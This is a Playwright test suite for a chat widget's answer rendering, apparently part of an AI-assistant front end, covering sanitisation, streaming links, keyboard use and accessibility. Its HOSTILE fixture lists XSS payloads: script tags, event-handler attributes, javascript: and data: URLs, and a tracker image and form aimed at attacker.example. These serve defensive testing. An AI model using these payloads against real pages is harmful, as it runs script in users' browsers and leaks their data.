// Rendering answers: hostile markdown from a fake upstream through the real
// proxy, an accessibility audit with axe-core, and a keyboard-only flow.
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import { startProxy, launchBrowser, openWidget } from './harness.mjs';
import { startFakeUpstream } from './fake-upstream.mjs';

const require = createRequire(import.meta.url);
const AXE = require.resolve('axe-core/axe.min.js');
const FIXTURE = fileURLToPath(new URL('../fixtures/images/revenue-by-region.png', import.meta.url));

const ALLOWED_TAGS = new Set(['p', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'code', 'ul', 'ol', 'li', 'em', 'strong',
  'del', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'br', 'span', 'div', 'button']);
const ALLOWED_ATTRS = new Set(['class', 'href', 'rel', 'target', 'title', 'start', 'type', 'data-action', 'data-src',
  'aria-label', 'role', 'scope', 'data-testid']);

const HOSTILE = [
  '# Hostile answer',
  '<script>window.__pwned = "script tag"</script>',
  '<img src="https://attacker.example/px.gif" onerror="window.__pwned = \'onerror\'">',
  '<p onclick="window.__pwned=1" style="background:url(https://attacker.example/bg)">raw p</p>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<!-- a comment --> and <style>body{display:none}</style>',
  '[js link](javascript:window.__pwned="link") [JS](JaVaScRiPt:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[safe](https://example.com/ok) and <a href="javascript:alert(1)">html link</a>',
  '![tracker](https://attacker.example/leak.png?q=secret "t")',
  '**bold <em onmouseover="window.__pwned=2">nested</em>** and `<code>` and <svg onload="window.__pwned=3"></svg>',
  '| a | <b onclick=x>b</b> |\n|---|---|\n| [x](javascript:alert(1)) | ![i](http://attacker.example/i.png) |',
  '```html\n<script>window.__pwned = "in code"</script>\n```',
  '<details open><summary>s</summary><form action="https://attacker.example"><input name=q></form></details>',
].join('\n\n');

let browser;
let fake;
let proxy;
let demo;
before(async () => {
  fake = await startFakeUpstream({ answer: () => HOSTILE, pieceSize: 4 });
  proxy = await startProxy({ upstream: fake.url });
  // Slow enough that Stop can be reached while the answer streams.
  demo = await startProxy({ demoDelayMs: 30 });
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await proxy?.stop();
  await demo?.stop();
  await fake?.close();
});

test('hostile answers render as inert text: no script runs, nothing loads from elsewhere, only allowed markup', async () => {
  const { page, errors } = await openWidget(browser, proxy.url);
  const origin = new URL(proxy.url).origin;
  const foreign = [];
  page.on('request', (r) => { if (!r.url().startsWith(origin) && !r.url().startsWith('data:') && !r.url().startsWith('blob:')) foreign.push(r.url()); });
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  await page.getByTestId('composer-input').fill('Attack me');
  await page.keyboard.press('Enter');
  await page.getByTestId('usage').waitFor({ timeout: 20000 });
  const content = page.locator('[data-role="assistant"] [data-testid="message-content"]');

  const report = await content.evaluate((root) => {
    const elements = [...root.querySelectorAll('*')];
    return {
      tags: [...new Set(elements.map((e) => e.localName))],
      attrs: [...new Set(elements.flatMap((e) => [...e.attributes].map((a) => a.name)))],
      hrefs: elements.filter((e) => e.localName === 'a').map((e) => [e.getAttribute('href'), e.getAttribute('rel'), e.getAttribute('target')]),
      text: root.textContent,
    };
  });
  for (const tag of report.tags) assert.ok(ALLOWED_TAGS.has(tag), `tag ${tag}`);
  for (const attr of report.attrs) assert.ok(ALLOWED_ATTRS.has(attr), `attribute ${attr}`);
  assert.deepEqual(report.hrefs, [['https://example.com/ok', 'noopener noreferrer', '_blank']]);
  assert.match(report.text, /<script>window.__pwned = "script tag"<\/script>/, 'raw HTML shown as text');
  assert.match(report.text, /<!-- a comment -->/);
  assert.match(report.text, /js link/);
  assert.match(report.text, /Image “tracker” from attacker\.example — not loaded/);

  // Hover and click everything that is not an explicit "load image" button.
  for (const el of await content.locator('p, strong, em, td, th, span').all()) await el.hover().catch(() => {});
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script ran');
  assert.deepEqual(dialogs, []);
  assert.deepEqual(foreign, [], 'no request left for another host');
  assert.deepEqual(errors, []);

  // The image loads only when asked, and only then.
  const load = content.locator('[data-action="load-image"]').first();
  const [req] = await Promise.all([page.waitForRequest((r) => r.url().includes('attacker.example/leak.png')), load.click()]);
  assert.ok(!req.headers().referer, 'no referrer sent');
  await page.close();
});

test('reference-style links resolve while streaming, wherever their definitions come', async () => {
  // Defined first (used by the blocks after it), and defined last (used before it).
  const answer = [
    '[docs]: https://example.com/docs "The docs"',
    'See [the docs][docs] and [the chart][chart].',
    '- a list item naming [docs]',
    'More text between.',
    '[chart]: https://example.com/chart',
  ].join('\n\n') + '\n';
  const upstream = await startFakeUpstream({ answer: () => answer, pieceSize: 3, delayMs: 1 });
  const server = await startProxy({ upstream: upstream.url });
  try {
    const { page, errors } = await openWidget(browser, server.url);
    await page.getByTestId('composer-input').fill('Links please');
    await page.keyboard.press('Enter');
    await page.getByTestId('usage').waitFor({ timeout: 20000 });
    const content = page.locator('[data-role="assistant"] [data-testid="message-content"]');
    const shown = await content.evaluate((root) => ({
      links: [...root.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]),
      paragraphs: [...root.querySelectorAll('p')].map((p) => p.textContent),
    }));
    assert.deepEqual(shown.links, [
      ['the docs', 'https://example.com/docs'],
      ['the chart', 'https://example.com/chart'],
      ['docs', 'https://example.com/docs'],
    ]);
    assert.deepEqual(shown.paragraphs, ['See the docs and the chart.', 'More text between.'], 'every block once');
    assert.deepEqual(errors, []);
    await page.close();
  } finally {
    await server.stop();
    await upstream.close();
  }
});

test('code can be copied and a table copied or downloaded as CSV, by keyboard alone', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  // Listening from the start makes Playwright intercept file choosers before
  // the first one opens (otherwise the first can slip past it).
  page.on('filechooser', () => {});
  // Record what the widget writes to the clipboard (granting clipboard
  // permissions here would stop Playwright from seeing the file chooser).
  await page.addInitScript(() => {
    window.__clipboard = [];
    Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (t) => { window.__clipboard.push(t); } } });
  });
  await page.goto(demo.url);
  await page.getByTestId('model-name').waitFor();

  // Keyboard only: Shift+Tab from the composer to Attach, Enter picks a file.
  await page.getByTestId('composer-input').focus();
  await page.keyboard.press('Shift+Tab');
  assert.equal(await page.evaluate(() => vcActive()?.dataset.testid), 'attach');
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.keyboard.press('Enter')]);
  await chooser.setFiles(FIXTURE);
  await page.getByTestId('attachment-preview').waitFor();
  await page.getByTestId('composer-input').focus();
  await page.keyboard.type('What does it show?');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => vcRoot().querySelector('[data-role="assistant"] [data-testid="message-content"]')?.textContent.length > 20);
  // While it streams, Tab reaches Stop; Enter stops.
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => vcActive()?.dataset.testid), 'stop');
  await page.keyboard.press('Enter');
  await page.locator('[data-role="assistant"][data-state="stopped"]').waitFor();

  // Ask again and let it finish; then reach the buttons by keyboard.
  await page.getByTestId('composer-input').focus();
  await page.keyboard.type('Again, please');
  await page.keyboard.press('Enter');
  await page.getByTestId('usage').waitFor({ timeout: 20000 });
  const focusAction = async (action) => {
    for (let i = 0; i < 60; i++) {
      await page.keyboard.press('Shift+Tab');
      if (await page.evaluate((a) => vcActive()?.dataset.action === a, action)) return;
    }
    assert.fail(`${action} not reachable by keyboard`);
  };
  await page.getByTestId('composer-input').focus();
  await focusAction('copy-code');
  await page.keyboard.press('Enter');
  const code = await page.evaluate(() => window.__clipboard.at(-1));
  assert.match(code, /^AZURE_INFERENCE_ENDPOINT=https:\/\/<deployment>/);

  await focusAction('copy-csv');
  await page.keyboard.press('Enter');
  const csv = await page.evaluate(() => window.__clipboard.at(-1));
  assert.equal(csv, 'What,Received\r\n'
    + 'Turns,"3 (2 from you, 1 from the assistant)"\r\n'
    + 'Your last message,"""Again, please"" (13 characters)"\r\n'
    + 'Image,"PNG, 990 × 550 pixels, 59,618 bytes; costs 2,353 prompt tokens on Phi-3.5-vision"\r\n'
    + 'Parameters,stream true\r\n');

  const [download] = await Promise.all([page.waitForEvent('download'), (async () => {
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => vcActive()?.dataset.action), 'download-csv');
    await page.keyboard.press('Enter');
  })()]);
  assert.equal(download.suggestedFilename(), 'table.csv');
  await context.close();
});

for (const scheme of ['light', 'dark']) {
  test(`axe-core finds no accessibility violations (${scheme} theme; image, table, code, settings with an error)`, async () => {
    // axe is injected as an inline script, which the page's CSP refuses.
    const page = await browser.newPage({ colorScheme: scheme, bypassCSP: true });
    await page.goto(demo.url);
    await page.getByTestId('model-name').waitFor();
    await page.getByTestId('file-input').setInputFiles(FIXTURE);
    await page.getByTestId('attachment-preview').waitFor();
    await page.getByTestId('composer-input').fill('Which region grew most?');
    await page.keyboard.press('Enter');
    await page.getByTestId('usage').waitFor({ timeout: 20000 });
    assert.equal(await page.locator('[data-role="assistant"] table').count(), 1);
    assert.equal(await page.locator('[data-role="assistant"] pre code').count(), 1);
    assert.equal(await page.getByTestId('message-image').count(), 1);
    await page.getByTestId('settings-toggle').click();
    await page.getByTestId('settings').getByLabel('Temperature').fill('7');
    await page.addScriptTag({ path: AXE });
    const result = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
    const summary = result.violations.map((v) => `${v.id} (${v.impact}): ${v.help} — ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
    assert.deepEqual(summary, []);
    await page.close();
  });
}
